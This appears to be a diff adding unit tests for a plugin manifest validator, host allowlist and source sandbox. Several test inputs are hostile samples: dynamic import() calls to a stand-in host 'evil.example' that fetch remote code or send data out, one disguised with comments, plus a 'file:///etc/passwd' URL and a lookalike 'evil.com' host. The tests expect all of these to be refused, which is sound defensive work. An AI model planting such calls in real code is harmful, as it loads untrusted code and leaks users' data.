@@ -0,0 +1,137 @@
+import { describe, it, expect, vi, beforeEach, afterEach } from 'vitest';
+
+vi.mock('../../utils/fetch-wrapper', () => ({ fetchWrapper: vi.fn() }));
+
+import { normalizePluginRecords, resolvePluginConfig, validatePluginManifest, FetcherPluginManifest } from './FetcherPlugins';
+import { inspectPluginSource, isHostAllowed, pluginHttpRequest } from './PluginSandbox';
+import { fetchWrapper } from '../../utils/fetch-wrapper';
+
+const rawManifest = {
+    id: 'acme-registry',
+    name: 'ACME Registry',
+    version: '1.0.0',
+    allowedHosts: ['models.acme.internal'],
+    config: [
+        { key: 'baseUrl', label: 'URL', type: 'url', required: true, default: 'https://models.acme.internal' },
+        { key: 'token', label: 'Token', type: 'secret', required: true },
+        { key: 'limit', label: 'Limit', type: 'number', default: 100 },
+        { key: 'archived', label: 'Archived', type: 'boolean' }
+    ]
+};
+
+const manifest = validatePluginManifest(rawManifest).manifest as FetcherPluginManifest;
+
+describe('validatePluginManifest', () => {
+    it('should accept a valid manifest', () => {
+        expect(validatePluginManifest(rawManifest).errors).toEqual([]);
+        expect(manifest.id).toBe('acme-registry');
+    });
+
+    it('should report invalid fields by path', () => {
+        const { manifest: parsed, errors } = validatePluginManifest({
+            ...rawManifest,
+            id: 'ACME Registry',
+            allowedHosts: []
+        });
+        expect(parsed).toBeUndefined();
+        expect(errors.some(e => e.startsWith('id:'))).toBe(true);
+        expect(errors.some(e => e.startsWith('allowedHosts:'))).toBe(true);
+
+        const dupes = validatePluginManifest({
+            ...rawManifest,
+            config: [{ key: 'mode', label: 'Mode', type: 'select' }, { key: 'mode', label: 'Again', type: 'string' }]
+        });
+        expect(dupes.errors).toEqual(['config.mode: select fields need options', 'config.mode: duplicate key']);
+    });
+});
+
+describe('resolvePluginConfig', () => {
+    it('should apply defaults, coerce types and list missing required fields', () => {
+        expect(resolvePluginConfig(manifest, { limit: '25', archived: 'true' })).toEqual({
+            config: { baseUrl: 'https://models.acme.internal', limit: 25, archived: true },
+            missing: ['token']
+        });
+    });
+});
+
+describe('normalizePluginRecords', () => {
+    it('should normalize records and drop entries without id or name', () => {
+        const models = normalizePluginRecords([
+            { id: 'acme/llm-7b', name: 'ACME LLM 7B', license: 'apache-2.0' },
+            { description: 'no identity' },
+            'junk'
+        ], manifest);
+        expect(models).toHaveLength(1);
+        expect(models[0]).toMatchObject({ id: 'acme/llm-7b', source: 'ACME Registry', license: { type: 'OSI' } });
+    });
+
+    it('should reject non-array output', () => {
+        expect(() => normalizePluginRecords({ items: [] }, manifest)).toThrow(/expected an array/);
+    });
+});
+
+describe('isHostAllowed', () => {
+    it('should match exact hosts, ports and subdomain wildcards', () => {
+        const hosts = ['models.acme.internal', 'localhost:8080', '*.acme-cdn.net'];
+        expect(isHostAllowed('https://models.acme.internal/api', hosts)).toBe(true);
+        expect(isHostAllowed('https://MODELS.acme.internal/api', hosts)).toBe(true);
+        expect(isHostAllowed('http://localhost:8080/x', hosts)).toBe(true);
+        expect(isHostAllowed('http://localhost:9000/x', hosts)).toBe(false);
+        expect(isHostAllowed('https://eu.acme-cdn.net/a', hosts)).toBe(true);
+        expect(isHostAllowed('https://acme-cdn.net/a', hosts)).toBe(false);
+        expect(isHostAllowed('https://models.acme.internal.evil.com/', hosts)).toBe(false);
+        expect(isHostAllowed('file:///etc/passwd', hosts)).toBe(false);
+    });
+});
+
+describe('pluginHttpRequest', () => {
+    beforeEach(() => {
+        vi.mocked(fetchWrapper).mockReset();
+    });
+
+    afterEach(() => {
+        delete (window as any).electronAPI;
+    });
+
+    it('should refuse hosts outside the manifest', async () => {
+        await expect(pluginHttpRequest(['models.acme.internal'], { url: 'https://example.com/' }))
+            .rejects.toThrow(/not allowed/);
+        expect(fetchWrapper).not.toHaveBeenCalled();
+    });
+
+    it('should route through the Electron proxy when available', async () => {
+        const proxyRequest = vi.fn().mockResolvedValue({ success: true, data: { items: [] } });
+        (window as any).electronAPI = { proxyRequest };
+
+        const data = await pluginHttpRequest(['models.acme.internal'], {
+            url: 'https://models.acme.internal/api',
+            headers: { Authorization: 'Bearer t' }
+        });
+        expect(data).toEqual({ items: [] });
+        expect(proxyRequest).toHaveBeenCalledWith({
+            url: 'https://models.acme.internal/api',
+            method: 'GET',
+            headers: { Authorization: 'Bearer t' },
+            body: null
+        });
+        expect(fetchWrapper).not.toHaveBeenCalled();
+    });
+
+    it('should refuse plugins that use dynamic import()', async () => {
+        await expect(inspectPluginSource('definePlugin({}); import ("https://evil.example/x.js");'))
+            .rejects.toThrow(/may not use import\(\)/);
+    });
+
+    it('should refuse import() hidden behind comments', async () => {
+        for (const source of ['import/**/("https://evil.example/?" + data);', 'import//\n("https://evil.example/x.js");']) {
+            await expect(inspectPluginSource(`definePlugin({}); ${source}`)).rejects.toThrow(/may not use import\(\)/);
+        }
+        await expect(inspectPluginSource('definePlugin({ manifest: { importance: 1 } }); importScripts;'))
+            .rejects.toThrow('Plugins require Web Worker support');
+    });
+
+    it('should fall back to fetch and parse JSON', async () => {
+        vi.mocked(fetchWrapper).mockResolvedValue(new Response('[1,2]', { status: 200 }));
+        expect(await pluginHttpRequest(['models.acme.internal'], { url: 'https://models.acme.internal/api' })).toEqual([1, 2]);
+    });
+});